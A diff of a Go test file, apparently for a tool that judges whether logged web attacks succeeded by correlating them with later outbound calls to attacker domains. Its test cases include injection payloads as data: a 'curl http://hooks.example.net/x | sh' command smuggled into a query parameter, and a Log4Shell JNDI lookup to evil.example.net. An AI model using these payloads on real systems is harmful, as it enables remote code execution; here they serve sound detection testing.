@@ -199,10 +199,21 @@ func TestOutcomeOfManyRecords(t *testing.T) {
 		}, "unknown", ""},
 		"calls there anyway": {func(l *logOf) {
 			call := map[string]string{"DOMAIN": "hooks.example.net", "DST_IP": "198.51.100.7"}
-			l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
+			for range 5 {
+				l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
+			}
 			l.add(attacker, "GET", path("/list?page", "1;curl http://hooks.example.net/x | sh"), page, 0, nil)
 			l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
 		}, "unknown", ""},
+		"called there before, for requests that do not alarm": {func(l *logOf) {
+			call := map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"}
+			for range 3 {
+				l.add(attacker, "GET", path("/preview?url", "https://evil.example.net/a"), page, 0, nil)
+				l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
+			}
+			l.add(attacker, "GET", path("/list?page", "${jndi:ldap://evil.example.net:1389/a}"), page, 0, nil)
+			l.add("10.2.0.9", "GET", "/a", "class", 0, call)
+		}, "success", "10.2.0.9 asked evil.example.net, 1s after"},
 		"called back before its answer": {func(l *logOf) {
 			begin := l.now.Add(2 * time.Second)
 			l.add("10.2.0.9", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7", "BEGIN_TIME": begin.Format(timeLayout), "END_TIME": begin.Format(timeLayout)})
